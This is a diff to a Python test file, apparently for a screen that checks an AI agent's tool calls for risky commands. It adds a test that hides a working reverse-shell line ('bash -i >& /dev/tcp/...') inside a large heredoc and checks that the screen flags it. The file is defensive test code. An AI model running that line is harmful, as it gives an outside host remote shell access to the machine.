@@ -19,7 +19,7 @@ from nats.js import JetStreamContext
 
 from consumers import reward
 from consumers.probe import ProbeError, ProbeSettings, agent_processes, parse, run_probe
-from consumers.screen import screen_calls, screen_text
+from consumers.screen import screen_call, screen_calls, screen_text
 from ops.config import Config, RewardSettings
 from ops.filters import security
 from ops.security import inbox_prefix, role_credentials, write_server_config
@@ -291,6 +291,19 @@ def test_the_screen_catches_risky_calls_however_they_are_written(command: str, f
 )
 def test_the_screen_lets_ordinary_calls_pass(command: str) -> None:
     assert screen_text(command, "chunk 0") == []
+
+
+def test_long_calls_are_screened_whole_within_a_budget() -> None:
+    program = "\n".join(f"def f{i}(x):\n    return x * {i}" for i in range(1500))  # ~45 KB
+    assert screen_call(f"cat > big.py << 'EOF'\n{program}\nEOF", "chunk 0") == []
+    half = len(program) // 2
+    shell = "bash -i >& /dev/tcp/10.0.0.1/80 0>&1"
+    hidden = f"cat > big.py << 'EOF'\n{program[:half]}\nEOF\n{shell}\n{program[half:]}"
+    assert [f.flag for f in screen_call(hidden, "chunk 0")] == ["reverse_shell"]
+    too_long = screen_call("echo " + "a" * 70_000, "chunk 0")
+    assert [(f.flag, f.what) for f in too_long] == [
+        ("obfuscation", "a call of 70005 characters: only the first 65536 were screened")
+    ]
 
 
 def test_offline_security_filter_and_online_screen_agree() -> None:
